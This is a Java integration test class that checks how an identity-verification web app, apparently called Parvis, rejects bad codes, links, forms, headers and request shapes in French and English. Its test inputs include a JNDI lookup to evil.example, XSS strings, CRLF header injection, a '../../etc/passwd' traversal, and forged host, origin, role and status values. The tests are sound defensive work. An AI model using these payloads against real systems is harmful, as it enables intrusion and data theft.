package org.parvis.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.parvis.http.Page;
import org.parvis.http.PlainBrowser;
import org.parvis.http.PlainMember;

/**
 * Bad forms and addresses, in both languages. What is right, and why:
 *
 * <table>
 *   <caption>Statuses</caption>
 *   <tr><td>200</td><td>a form that can be mended is shown again with its sentence</td></tr>
 *   <tr><td>302, 303</td><td>a step that is over or not due leads to the one that is</td></tr>
 *   <tr><td>400</td><td>what no page of ours could have sent, and no person can mend</td></tr>
 *   <tr><td>403</td><td>not from our pages, or not the caller's to do</td></tr>
 *   <tr><td>404</td><td>nothing is there, or nothing that the caller may know of</td></tr>
 *   <tr><td>405</td><td>the address is not used in this way</td></tr>
 *   <tr><td>409</td><td>not now: another step is due, or another offset</td></tr>
 *   <tr><td>411, 413</td><td>too long, or without saying how long; nothing is read</td></tr>
 *   <tr><td>415</td><td>a kind of recording that is not read here</td></tr>
 * </table>
 */
@ExtendWith(OneStage.class)
class BadInputIT {
  private static final List<String> LANGUAGES = List.of("fr", "en");
  private static int members = 100;

  private final Stage stage;
  private final Tables tables;
  private String logBefore = "";

  BadInputIT(Stage stage) {
    this.stage = stage;
    this.tables = stage.tables();
  }

  @BeforeEach
  void remember_the_log() {
    logBefore = stage.parvis().log();
  }

  /** What others do wrong is no trouble of ours: nothing is degraded, nobody has to act. */
  @AfterEach
  void the_log_says_nothing_that_somebody_must_act_on() {
    String log = stage.parvis().log().substring(logBefore.length());
    assertThat(log.lines())
        .allMatch(line -> line.startsWith("{") && line.endsWith("}"), "one object a line")
        .noneMatch(line -> line.contains("\"Level\":\"WARNING\""))
        .noneMatch(line -> line.contains("\"Level\":\"SEVERE\""));
  }

  // ---- codes ----

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_wrong_code_costs_one_try_and_nothing_else(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone();
    String right = member.codeFromTheMailbox();
    String wrong = String.format("%06d", (Integer.parseInt(right) + 1) % 1_000_000);

    misdeed(language, "wrong code", () -> member.types(wrong))
        .isAnswered(200)
        .says("code.wrong", 4)
        .leaves("CODE_REFUSED {\"reason\":\"WRONG\"}")
        .changesOnly("code_challenge", "wrong_checks");
    for (String none :
        List.of("", "12345", "1234567", "abcdef", "١٢٣٤٥٦", "12345\u0000", "-12345")) {
      misdeed(language, "no code: " + none, () -> member.types(none))
          .isAnswered(200)
          .says("code.sixDigits")
          .leaves()
          .changesNothing();
    }
    assertThat(member.types(right).address().getPath()).isEqualTo("/profile.xhtml");
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_code_that_is_too_old_is_asked_for_anew(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone();
    String code = member.codeFromTheMailbox();
    Page form = member.browser().opens("/phone-code.xhtml");
    tables.change(
        "update code_challenge set expires_at = now() - interval '1 second' where phone = '"
            + member.phone()
            + "'");

    misdeed(
            language,
            "expired code",
            () -> member.browser().submits(form, "go", Map.of("code", code)))
        .isAnswered(200)
        .endsAt("/phone.xhtml")
        .says("note.codeClosed")
        .leaves("CODE_REFUSED {\"reason\":\"EXPIRED\"}")
        .changesNothing();
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_used_code_leads_to_the_step_that_is_due(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone();
    String code = member.codeFromTheMailbox();
    Page form = member.browser().opens("/phone-code.xhtml");
    member.confirmsThePhone();

    misdeed(language, "used code", () -> member.browser().submits(form, "go", Map.of("code", code)))
        .isAnswered(200)
        .endsAt("/profile.xhtml")
        .leaves("STEP_REFUSED {\"step\":\"/phone-code.xhtml\"}")
        .changesNothing();
  }

  // Tamper, security.md B4
  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void the_code_of_somebody_else_is_a_wrong_code(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone();
    PlainMember other = member(language).opensAnAccount().givesThePhone();
    String foreign = other.codeFromTheMailbox();

    misdeed(language, "foreign code", () -> member.types(foreign))
        .isAnswered(200)
        .says("code.wrong", 4)
        .leaves("CODE_REFUSED {\"reason\":\"WRONG\"}")
        .changesOnly("code_challenge", "wrong_checks");
  }

  // ---- links ----

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_link_that_was_used_is_too_old_or_never_existed_opens_nothing(String language) {
    PlainMember used = member(language).opensAnAccount();
    String usedLink = used.linkFromTheMailbox();
    PlainMember late = member(language).asksForALink("/sign-up.xhtml");
    String lateLink = late.linkFromTheMailbox();
    Page lateForm = late.browser().opens(lateLink);
    tables.change(
        "update email_link set expires_at = now() - interval '1 second' where email = '"
            + late.email()
            + "'");

    for (String link : List.of(usedLink, lateLink, "/link.xhtml?token=" + "n".repeat(43))) {
      misdeed(language, "dead link", () -> stage.browser(language).opens(link))
          .isAnswered(200)
          .says("link.notUsable.title")
          .leaves("LINK_REFUSED")
          .changesNothing();
    }
    for (String shapeless : List.of("", "x", "../../etc/passwd", "%00", "<script>", "a b")) {
      misdeed(
              language,
              "no token: " + shapeless,
              () ->
                  stage
                      .browser(language)
                      .opens("/link.xhtml?token=" + java.net.URLEncoder.encode(shapeless, UTF_8)))
          .isAnswered(200)
          .says("link.notUsable.title")
          .doesNotSay("<script>alert")
          .leaves()
          .changesNothing();
    }
    misdeed(
            language,
            "form of a dead link",
            () -> late.browser().submits(lateForm, "go", Map.of("password", PlainMember.PASSWORD)))
        .isAnswered(200)
        .says("link.notUsable.title")
        .leaves("LINK_REFUSED")
        .changesNothing();
  }

  // ---- steps ----

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void forms_of_other_steps_lead_to_the_one_that_is_due(String language) {
    PlainMember ahead = member(language).opensAnAccount().isOnboarded();
    Map<String, Form> forms = new LinkedHashMap<>();
    ahead.startsTheVerification();
    forms.put(
        "/consent.xhtml",
        Form.of(ahead, "/consent.xhtml", "agree", Map.of("face", "on", "terms", "on")));
    ahead.consents();
    forms.put("/document.xhtml", Form.of(ahead, "/document.xhtml", "choose", Map.of()));
    PlainMember behind = member(language).opensAnAccount();
    PlainMember middle = member(language).opensAnAccount().givesThePhone().confirmsThePhone();
    forms.put(
        "/profile.xhtml",
        Form.of(middle, "/profile.xhtml", "go", PlainMember.profile("Maëlys", "MARTIN")));
    middle.givesTheProfileOf("Maëlys", "MARTIN");
    forms.put(
        "/passcode.xhtml",
        Form.of(
            middle,
            "/passcode.xhtml",
            "go",
            Map.of("passcode", PlainMember.PASSCODE, "again", PlainMember.PASSCODE)));

    forms.forEach(
        (path, form) ->
            misdeed(language, "out of step: " + path, () -> form.sentBy(behind.browser()))
                .isAnswered(302)
                .leaves("STEP_REFUSED {\"step\":\"" + path + "\"}")
                .changesNothing());
  }

  /** A form as one member's page held it, to be sent by anybody. */
  private record Form(Page page, String button, Map<String, String> typed) {
    static Form of(PlainMember member, String path, String button, Map<String, String> typed) {
      Page page = member.browser().opens(path);
      assertThat(page.address().getPath()).isEqualTo(path);
      return new Form(page, button, typed);
    }

    Page sentBy(PlainBrowser browser) {
      return browser.posts(page, button, typed);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_second_tab_leads_to_where_the_first_one_went(String language) {
    PlainMember member = member(language).opensAnAccount().isOnboarded().startsTheVerification();
    Page secondTab = member.browser().opens("/consent.xhtml");
    member.consents();

    misdeed(
            language,
            "second tab",
            () -> member.browser().submits(secondTab, "agree", Map.of("face", "on", "terms", "on")))
        .isAnswered(200)
        .endsAt("/document.xhtml")
        .says("document.title")
        .leaves("STEP_REFUSED {\"step\":\"/consent.xhtml\"}")
        .changesNothing();
    misdeed(
            language,
            "refusal in a second tab",
            () -> member.browser().submits(secondTab, "refuse", Map.of()))
        .isAnswered(200)
        .endsAt("/document.xhtml")
        .leaves("STEP_REFUSED {\"step\":\"consent\"}")
        .changesNothing();
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_button_that_the_page_did_not_show_does_nothing(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone();
    Page page = member.browser().opens("/phone-code.xhtml");
    Map<String, String> forged = new LinkedHashMap<>();
    forged.put("codeForm", "codeForm");
    forged.put("jakarta.faces.ViewState", "stateless");
    forged.put("approve", "");
    forged.put("status", "VERIFIED");
    forged.put("identity", "VERIFIED");
    forged.put("role", "SUPERVISOR");
    forged.put("phoneCodePage.session.staff", "true");

    misdeed(
            language,
            "hidden button",
            () -> member.browser().posts(page.address().getPath(), forged))
        .isAnswered(200)
        .says("phoneCode.title")
        .leaves()
        .changesNothing();
  }

  // ---- names ----

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void names_that_are_no_names_are_refused_and_come_back_harmless(String language) {
    PlainMember member = member(language).opensAnAccount().givesThePhone().confirmsThePhone();
    for (String name :
        List.of(
            "Maëlys\r\nSet-Cookie: x=y",
            "Maëlys\nSEVERE: nothing",
            "\u001b[31mMaëlys",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "#{facesContext}",
            "\u202eMaëlys",
            "Maë\u200blys",
            "Maëlys\u0000",
            "\ud800")) {
      misdeed(
              language,
              "name " + name.length(),
              () ->
                  member
                      .browser()
                      .submits(
                          member.browser().opens("/profile.xhtml"),
                          "go",
                          PlainMember.profile(name, "MARTIN")))
          .isAnswered(200)
          .endsAt("/profile.xhtml")
          .says("profile.givenNamesWrong")
          .doesNotSay("<script>alert")
          .doesNotSay("<img src=x")
          .leaves()
          .changesNothing();
    }
  }

  // ---- who asks ----

  // Tamper, security.md A8, I7
  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void what_a_proxy_would_say_is_not_believed(String language) {
    PlainMember member = member(language);
    Map<String, String> forged =
        Map.of(
            "X-Forwarded-Host", "evil.example",
            "X-Forwarded-Proto", "gopher",
            "X-Forwarded-For", "192.0.2.1",
            "Forwarded", "host=evil.example;proto=gopher;for=192.0.2.1",
            "X-Original-URL", "/staff/queue.xhtml",
            "X-HTTP-Method-Override", "DELETE");
    Page signUp = member.browser().opens("/sign-up.xhtml");
    Page sent = member.browser().postsWith(signUp, "go", Map.of("email", member.email()), forged);
    assertThat(sent.header("Location")).doesNotContain("evil").contains("/sign-up-sent.xhtml");
    assertThat(member.linkFromTheMailbox()).startsWith(stage.parvis().url("/link.xhtml?token="));

    Page denied =
        member
            .browser()
            .postsWith(
                member.browser().opens("/sign-in.xhtml"),
                "go",
                Map.of("email", "nobody@parvis.example", "password", "not the right one"),
                forged);
    assertThat(denied.status()).isEqualTo(200);
    assertThat(denied.text()).doesNotContain("evil.example");
    assertThat(tables.column("select subject from tally where subject <> ''"))
        .doesNotContain("192.0.2.1");
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void another_host_is_not_repeated(String language) {
    Wire wire = new Wire(stage.parvis().address());
    for (String path : List.of("/space.xhtml", "/", "/no-such-page", "/sign-in.xhtml")) {
      Wire.Answer answer =
          wire.asks(
              "GET "
                  + path
                  + " HTTP/1.1\r\nHost: evil.example\r\nCookie: parvis-lang="
                  + language
                  + "\r\nConnection: close\r\n\r\n");
      assertThat(answer.status()).as(path).isBetween(200, 499);
      assertThat(answer.text()).as(path).doesNotContain("evil.example");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void a_write_from_elsewhere_is_refused(String language) {
    PlainMember member = member(language).opensAnAccount();
    Page form = member.browser().opens("/phone.xhtml");
    for (Map<String, String> origin :
        List.of(
            Map.of("Origin", "https://evil.example"),
            Map.of("Origin", "null"),
            Map.of("Sec-Fetch-Site", "cross-site"))) {
      misdeed(
              language,
              "foreign " + origin,
              () -> member.browser().postsWith(form, "go", Map.of("phone", "0612345678"), origin))
          .isAnswered(403)
          .says("error.403.title")
          .leaves("FOREIGN_WRITE_REFUSED {\"path\":\"/phone.xhtml\"}")
          .changesNothing();
    }
  }

  // ---- shapes ----

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void what_no_page_of_ours_sends_is_answered_by_an_error_page(String language) {
    PlainMember member = member(language).opensAnAccount();
    Page form = member.browser().opens("/phone.xhtml");
    for (String nonce : List.of("x", "%%%", "bm90LWEtdXVpZA==", "'; script-src *")) {
      misdeed(
              language,
              "nonce " + nonce,
              () -> member.browser().posts(form, "go", Map.of("primefaces.nonce", nonce)))
          .isAnswered(400)
          .says("error.400.title")
          .leaves()
          .changesNothing();
    }
    for (String method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "BREW")) {
      misdeed(
              language,
              method,
              () ->
                  member.browser().sends(method, "/phone.xhtml", BodyPublishers.noBody(), Map.of()))
          .isAnswered(405)
          .says("error.405.title")
          .leaves()
          .changesNothing();
    }
    misdeed(language, "no such page", () -> member.browser().asks("/no-such-page"))
        .isAnswered(404)
        .says("error.404.title")
        .leaves()
        .changesNothing();
    misdeed(
            language,
            "too long a form",
            () -> member.browser().posts(form, "go", Map.of("phone", "0".repeat(100_000))))
        .isAnswered(413)
        .says("error.413.title")
        .leaves()
        .changesNothing();
  }

  @ParameterizedTest
  @ValueSource(strings = {"fr", "en"})
  void json_with_fields_that_nobody_asked_for_changes_nothing(String language) {
    PlainMember member = member(language).opensAnAccount();
    String json = "{\"status\":\"VERIFIED\",\"role\":\"SUPERVISOR\",\"member\":\"x\"}";
    Map<String, String> type = Map.of("Content-Type", "application/json");
    misdeed(
            language,
            "token with fields",
            () -> member.browser().sends("POST", "/token", BodyPublishers.ofString(json), type))
        .isAnswered(200)
        .leaves("API_TOKEN_ISSUED")
        // The first token of an installation makes its key.
        .changesOnly("signing_key");
    misdeed(
            language,
            "JSON to a page",
            () ->
                member.browser().sends("POST", "/phone.xhtml", BodyPublishers.ofString(json), type))
        .isAnswered(200)
        .leaves()
        .changesNothing();
    for (String method : List.of("POST", "PUT")) {
      misdeed(
              language,
              method + " to the API",
              () ->
                  member
                      .browser()
                      .sends(method, "/api/v1/me/access", BodyPublishers.ofString(json), type))
          .isAnswered(405)
          .leaves()
          .changesNothing();
    }
  }

  private Misdeed misdeed(String language, String what, Supplier<Page> request) {
    return Misdeed.of(stage, language, what, request);
  }

  private PlainMember member(String language) {
    assertThat(LANGUAGES).contains(language);
    return new PlainMember(stage, language, members++);
  }
}
